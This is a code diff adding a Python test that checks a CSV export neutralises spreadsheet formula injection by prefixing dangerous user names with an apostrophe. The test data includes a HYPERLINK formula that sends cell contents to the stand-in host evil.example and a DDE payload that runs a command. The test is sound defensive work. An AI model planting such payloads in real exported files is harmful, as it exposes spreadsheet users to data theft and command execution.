@@ -49,5 +49,29 @@ def test_hostile_text():
     env.close()
 
 
+def test_csv_export_formulas():
+    """A name is what its owner typed: in the CSV export one that a
+    spreadsheet would run as a formula (=, +, -, @) is text, quoted with
+    a leading apostrophe; the JSON keeps it as written."""
+    env = Env("hostile-csv", BASE_CONFIG + "time:\n  source: event\n")
+    names = {"f1": '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
+             "f2": "=cmd|' /C calc'!A0", "f3": "+SUM(1,2)", "f4": "-2+3", "f5": "@SUM(A1)",
+             "f6": "Ada Lovelace"}
+    env.append("a.jsonl", [event(T0, "follow", actor, name=n, id=actor)
+                           for actor, n in names.items()])
+    env.once()
+    r = subprocess.run([WARMTHCTL, "--db", env.db, "-c", env.config, "export", "--format", "csv"],
+                       capture_output=True, text=True, timeout=60)
+    check(r.returncode == 0, r.stderr)
+    import csv
+    import io
+    rows = list(csv.reader(io.StringIO(r.stdout)))
+    got = {row[0]: row[1] for row in rows[1:]}
+    for actor, name in names.items():
+        want = name if actor == "f6" else "'" + name
+        check(got.get(actor) == want, "csv export of %r: %r, want %r" % (name, got.get(actor), want))
+    env.close()
+
+
 if __name__ == "__main__":
-    run([test_hostile_text])
+    run([test_hostile_text, test_csv_export_formulas])
